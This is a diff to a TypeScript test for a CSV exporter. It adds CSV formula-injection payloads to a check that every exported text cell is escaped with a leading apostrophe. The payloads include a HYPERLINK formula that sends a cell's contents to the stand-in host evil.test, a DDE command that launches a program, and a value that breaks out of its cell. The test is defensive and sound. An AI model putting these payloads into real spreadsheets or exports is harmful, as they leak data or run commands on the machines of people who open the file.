@@ -64,12 +64,14 @@ describe("exports", () => {
 
   test("no text cell begins with what a spreadsheet would run, whoever parses it (T23, F-5 to F-7)", async () => {
     const triggers = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"];
-    const rows = triggers.map((trigger) => ["13800138000", `${trigger}1+1`, null]);
+    const formulas = ['=HYPERLINK("http://evil.test?"&A1)', "=cmd|' /C calc'!A0", '@SUM(A1)","=1+1'];
+    const texts = [...triggers.map((trigger) => `${trigger}1+1`), ...formulas];
+    const rows = texts.map((text) => ["13800138000", text, null]);
     const text = (await write("csv", rows)).toString("utf8");
     const byOne: string[][] = parse(text, { bom: true });
     const byOther = parseCsv(text, { delimiter: "," });
     for (const parsed of [byOne, byOther]) {
-      expect(parsed.length).toBe(triggers.length + 1);
+      expect(parsed.length).toBe(texts.length + 1);
       for (const row of parsed.slice(1)) expect(String(row[1])).toMatch(/^'/);
     }
   });
